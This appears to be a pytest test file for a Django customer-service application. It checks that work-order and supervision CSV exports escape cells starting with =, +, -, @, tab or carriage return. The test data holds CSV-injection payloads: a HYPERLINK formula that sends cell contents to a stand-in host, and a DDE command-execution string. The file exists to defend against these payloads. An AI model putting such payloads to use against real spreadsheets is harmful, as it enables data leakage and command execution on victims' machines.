"""CSV exports neutralise formulas (issue 22, item 5): a cell beginning with =, +, -, @, a tab
or a carriage return is written as text, so an exported complaint cannot run in a
spreadsheet."""

from __future__ import annotations

import csv
import io

import pytest

from kefu.escalation.actions import open_supervision
from kefu.spreadsheets import safe_cell
from kefu.workorders import actions
from tests.conftest import World, intake

pytestmark = pytest.mark.django_db

DANGEROUS = ['=HYPERLINK("http://x.example/?"&A1,"点我")', "+1+2", "-2+3", "@SUM(A1)",
             "\t=1", "\r=1"]


def read(response: object) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8-sig")  # type: ignore[attr-defined]
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("title", DANGEROUS)
def test_a_work_order_title_exports_as_text(world: World, title: str) -> None:
    wo, _ = actions.create_work_order(actor=world.agent, intake=intake(world, title=title))
    rows = read(world.client_for("supervisor").get("/console/export.csv?view=all"))
    # Intake strips surrounding blanks, so "\t=1" is stored as "=1": a formula all the same.
    assert rows[1][5] == "'" + wo.title
    assert rows[1][0].startswith("TS-")  # ordinary cells are untouched


def test_a_supervision_detail_exports_as_text(world: World) -> None:
    wo, _ = actions.create_work_order(actor=world.agent, intake=intake(world))
    open_supervision(actor=world.manager, work_order_id=wo.pk, detail="=cmd|' /C calc'!A0",
                     working_days=3)
    rows = read(world.client_for("manager").get("/console/supervision.csv?state=open"))
    assert rows[1][2] == "'=cmd|' /C calc'!A0"


def test_numbers_and_plain_text_pass_unchanged() -> None:
    assert [safe_cell(v) for v in (-5, 3.5, "信号差", "", None)] == [-5, 3.5, "信号差", "", None]
